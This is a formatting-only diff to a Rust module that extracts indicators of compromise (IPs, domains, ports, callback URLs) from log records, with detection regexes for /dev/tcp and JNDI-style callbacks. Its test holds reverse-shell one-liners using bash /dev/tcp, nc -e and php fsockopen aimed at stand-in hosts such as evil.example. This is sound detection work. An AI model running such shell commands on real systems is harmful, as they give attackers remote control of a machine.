@@ -53,8 +53,9 @@ static URL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)\b(?:https?|ldaps?|rmi|dns|iiop|corba|nis|nds|ftp|tftp|telnet|stratum\+(?:tcp|ssl|tls))://[^\s\x22'<>`|;(){}\[\]\\,]+")
         .expect("valid built-in regex")
 });
-static IPV4: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"(?:^|[^\w.])((?:\d{1,3}\.){3}\d{1,3})(?:[^\w.]|\.?$)").expect("valid built-in regex"));
+static IPV4: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:^|[^\w.])((?:\d{1,3}\.){3}\d{1,3})(?:[^\w.]|\.?$)").expect("valid built-in regex")
+});
 static DEV_TCP: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)/dev/(?:tcp|udp)/([\w.\-]+)/(\d{1,5})|/inet/(?:tcp|udp)/\d+/([\w.\-]+)/(\d{1,5})")
         .expect("valid built-in regex")
@@ -89,7 +90,13 @@ pub fn extract(raw_record: &[u8], text: &str, jndi: Option<&JndiInfo>, commands:
             out.insert(IocRef { kind: IocKind::Port, value: p.to_string(), role: "callback" });
         }
         if j.host.is_some() && !j.scheme.is_empty() {
-            let url = format!("{}://{}{}{}", j.scheme, j.host.as_deref().unwrap_or(""), j.port.map(|p| format!(":{p}")).unwrap_or_default(), j.path);
+            let url = format!(
+                "{}://{}{}{}",
+                j.scheme,
+                j.host.as_deref().unwrap_or(""),
+                j.port.map(|p| format!(":{p}")).unwrap_or_default(),
+                j.path
+            );
             out.insert(IocRef { kind: IocKind::Url, value: url, role: "callback" });
         }
     }
@@ -143,7 +150,10 @@ fn add_host(out: &mut BTreeSet<IocRef>, host: &str, role: &'static str) {
         out.insert(IocRef { kind: IocKind::Ip, value: host, role });
     } else if host.contains('.')
         && host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
-        && host.rsplit('.').next().is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
+        && host
+            .rsplit('.')
+            .next()
+            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
     {
         out.insert(IocRef { kind: IocKind::Domain, value: host, role });
     }
@@ -151,11 +161,15 @@ fn add_host(out: &mut BTreeSet<IocRef>, host: &str, role: &'static str) {
 
 fn valid_ipv4(s: &str) -> bool {
     let parts: Vec<&str> = s.split('.').collect();
-    parts.len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|v| v <= 255)) && s != "0.0.0.0"
+    parts.len() == 4
+        && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|v| v <= 255))
+        && s != "0.0.0.0"
 }
 
 /// Merge the indicators of all hits (`(hit index, time, locator, refs)`) per bundle.
-pub fn aggregate<'a>(hits: impl Iterator<Item = (usize, Option<Timestamp>, &'a Locator, &'a [IocRef])>) -> Vec<Ioc> {
+pub fn aggregate<'a>(
+    hits: impl Iterator<Item = (usize, Option<Timestamp>, &'a Locator, &'a [IocRef])>,
+) -> Vec<Ioc> {
     let mut map: BTreeMap<(IocKind, String), Ioc> = BTreeMap::new();
     for (idx, time, loc, refs) in hits {
         for r in refs {
@@ -211,9 +225,22 @@ mod tests {
     fn shells_give_callbacks() {
         let t = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1; nc -e /bin/sh 192.0.2.1 4444; php -r '$sock=fsockopen(\"evil.example\",80);'";
         let v = vals(&extract(t.as_bytes(), t, None, &[]));
-        for want in ["Ip:10.0.0.1:callback", "Port:4242:callback", "Ip:192.0.2.1:callback", "Port:4444:callback", "Domain:evil.example:callback"] {
+        for want in [
+            "Ip:10.0.0.1:callback",
+            "Port:4242:callback",
+            "Ip:192.0.2.1:callback",
+            "Port:4444:callback",
+            "Domain:evil.example:callback",
+        ] {
             assert!(v.contains(&want.to_string()), "{want} not in {v:?}");
         }
-        assert!(!vals(&extract(b"version 1.2.3.4.5 and 999.1.1.1", "version 1.2.3.4.5 and 999.1.1.1", None, &[])).iter().any(|s| s.starts_with("Ip")));
+        assert!(!vals(&extract(
+            b"version 1.2.3.4.5 and 999.1.1.1",
+            "version 1.2.3.4.5 and 999.1.1.1",
+            None,
+            &[]
+        ))
+        .iter()
+        .any(|s| s.starts_with("Ip")));
     }
 }
